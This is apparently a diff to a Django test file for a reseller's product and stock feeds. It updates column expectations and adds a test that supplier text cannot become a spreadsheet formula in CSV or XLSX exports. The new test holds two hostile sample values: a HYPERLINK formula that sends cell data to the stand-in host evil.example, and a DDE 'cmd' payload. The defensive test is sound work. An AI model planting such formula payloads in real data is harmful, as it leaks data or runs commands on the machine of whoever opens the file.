@@ -15,6 +15,7 @@ from openpyxl import load_workbook
 
 from resellers.models import StoreListing
 from resellers.services import PublishItem, store_listing_publish
+from resellers.shop_services import shop_default
 from suppliers.models import SKU, Partnership, ProductImage
 from tests.resellers.conftest import MAX_PAGE_QUERIES
 
@@ -100,7 +101,7 @@ def test_stock_feed_is_incremental_with_updated_since(reseller_client, store):
     response = reseller_client.get(reverse("resellers:feed_stock", args=["csv"]), {"updated_since": since})
     rows = list(csv.DictReader(io.StringIO(body(response).decode("utf-8-sig"))))
     assert [(r["sku_code"], r["available"]) for r in rows] == [("TS-BLACK-L", "7")]
-    assert list(rows[0]) == ["sku_code", "available", "updated_at"]
+    assert list(rows[0]) == ["sku_code", "item_code", "available", "updated_at"]
     everything = reseller_client.get(reverse("resellers:feed_stock", args=["json"]))
     assert len(json.loads(body(everything))["items"]) == 2
 
@@ -157,8 +158,12 @@ def test_feed_streams_in_chunks_with_a_bounded_number_of_queries(reseller_client
         for i in range(300)
     ]
     SKU.objects.bulk_create(extra)
+    shop = shop_default(reseller=store["reseller"])
     StoreListing.objects.bulk_create(
-        [StoreListing(reseller=store["reseller"], supplier=sku.supplier, sku=s, retail_price_amount=Decimal("99")) for s in extra]
+        [
+            StoreListing(reseller=store["reseller"], shop=shop, supplier=sku.supplier, sku=s, retail_price_amount=Decimal("99"))
+            for s in extra
+        ]
     )
     many, raw = count_queries(fetch)
     assert raw.decode("utf-8-sig").count("\n") == 303
@@ -194,4 +199,24 @@ def test_product_feed_lists_every_approved_image_in_position_order_with_its_stor
     rows = list(feeds.product_rows(store["reseller"]))
 
     assert [row["images"] for row in rows] == [expected, expected]
-    assert "%E5%BE%8C" in expected[2]  # the Chinese name is quoted as storage.url() quotes it
+    assert "後" not in expected[2] and "%E5%BE%8C" not in expected[2]  # stored under a random name (core/media.py)
+
+
+EVIL_TITLE = '=HYPERLINK("http://evil.example/?d="&A1,"點此")'
+
+
+def test_a_suppliers_text_never_becomes_a_formula_in_the_resellers_feeds(reseller_client, store):
+    from suppliers.models import Product
+
+    Product.objects.filter(pk=store["product"].pk).update(title=EVIL_TITLE, approved_title=EVIL_TITLE, brand="+cmd|' /C calc'!A0")
+
+    rows = list(csv.reader(io.StringIO(body(reseller_client.get(reverse("resellers:feed_products", args=["csv"]))).decode("utf-8-sig"))))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert "'" + EVIL_TITLE in cells
+    assert not any(cell[:1] in ("=", "+", "@") for cell in cells)
+
+    workbook = load_workbook(io.BytesIO(body(reseller_client.get(reverse("resellers:feed_products", args=["xlsx"])))))
+    values = [cell for row in workbook.active.iter_rows(min_row=2) for cell in row]
+    titles = [c for c in values if isinstance(c.value, str) and "HYPERLINK" in c.value]
+    assert titles and all(c.data_type == "s" and c.value == "'" + EVIL_TITLE for c in titles)
+    assert not any(c.data_type == "f" for c in values)
